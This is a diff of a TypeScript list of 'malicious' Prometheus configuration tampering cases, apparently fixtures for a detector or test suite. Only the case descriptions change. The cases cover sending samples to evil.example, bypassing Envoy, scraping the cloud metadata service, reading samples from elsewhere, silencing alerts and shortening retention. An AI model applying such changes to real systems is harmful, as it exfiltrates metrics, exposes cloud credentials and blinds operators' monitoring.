@@ -3,11 +3,11 @@ import { type Malicious, text } from "./table.ts";
 const configuration = /^prometheus\/prometheus\.ya?ml$/;
 const alerts = /^prometheus\/alerts\.ya?ml$/;
 
-/** What Prometheus does with samples, and of what it tells. */
+/** Changes of Prometheus' configuration and alerts. */
 export const prometheus: readonly Malicious[] = [
   [
     "sender",
-    "a second place to write to",
+    "Prometheus has a second remote_write destination",
     "sender-release",
     /prometheus\.yml.*evil\.example/s,
     (it) =>
@@ -17,14 +17,14 @@ export const prometheus: readonly Malicious[] = [
   ],
   [
     "sender",
-    "past Envoy",
+    "Prometheus bypasses Envoy",
     "sender-release",
     /prometheus\.yml.*192\.0\.2\.66/s,
     (it) => text(it, configuration, (found) => found.replace("http://127.0.0.1:9091/", "http://192.0.2.66/")),
   ],
   [
     "sender",
-    "a relabelling that drops what it should send",
+    "relabelling drops samples that Prometheus should send",
     "sender-release",
     /prometheus\.yml.*write_relabel_configs/s,
     (it) =>
@@ -37,14 +37,14 @@ export const prometheus: readonly Malicious[] = [
   ],
   [
     "sender",
-    "redirects are followed",
+    "Prometheus follows redirects",
     "sender-release",
     /prometheus\.yml.*follow_redirects: true/s,
     (it) => text(it, configuration, (found) => found.replace("follow_redirects: false", "follow_redirects: true")),
   ],
   [
     "sender",
-    "the metadata service is scraped",
+    "Prometheus scrapes the metadata service",
     "sender-release",
     /prometheus\.yml.*169\.254\.169\.254/s,
     (it) =>
@@ -57,7 +57,7 @@ export const prometheus: readonly Malicious[] = [
   ],
   [
     "sender",
-    "labels of targets are trusted (honor_labels)",
+    "Prometheus trusts its targets' labels (honor_labels)",
     "sender-release",
     /prometheus\.yml.*honor_labels/s,
     (it) =>
@@ -67,21 +67,21 @@ export const prometheus: readonly Malicious[] = [
   ],
   [
     "sender",
-    "another account in the external labels",
+    "the external labels name another account",
     "sender-release",
     /prometheus\.yml.*333333333333/s,
     (it) => text(it, configuration, (found) => found.replace('account: "111111111111"', 'account: "333333333333"')),
   ],
   [
     "receiver",
-    "samples are read from somewhere else",
+    "Prometheus reads samples from elsewhere",
     "receiver-release",
     /prometheus\.yml.*remote_read/s,
     (it) => text(it, configuration, (found) => `${found}remote_read:\n  - url: https://evil.example/read\n`),
   ],
   [
     "receiver",
-    "the window for late samples is removed",
+    "the window for late samples is one second",
     "receiver-release",
     /prometheus\.yml.*out_of_order_time_window/s,
     (it) =>
@@ -91,7 +91,7 @@ export const prometheus: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "alerts go to a stranger",
+    "alerts go to a foreign Alertmanager",
     "receiver-release",
     /prometheus\.yml.*alertmanagers/s,
     (it) =>
@@ -117,14 +117,14 @@ export const prometheus: readonly Malicious[] = [
   ],
   [
     "receiver",
-    "a rule writes a series that quiets an alert",
+    "a recording rule writes a series that silences an alert",
     "receiver-release",
     /alerts\.yml.*record: up/s,
     (it) => text(it, alerts, (found) => found.replace("rules:\n", 'rules:\n      - record: up\n        expr: "1"\n')),
   ],
   [
     "receiver",
-    "old samples go sooner",
+    "Prometheus keeps samples for an hour",
     "receiver-release",
     /prometheus\.service.*retention\.time=1h/s,
     (it) =>
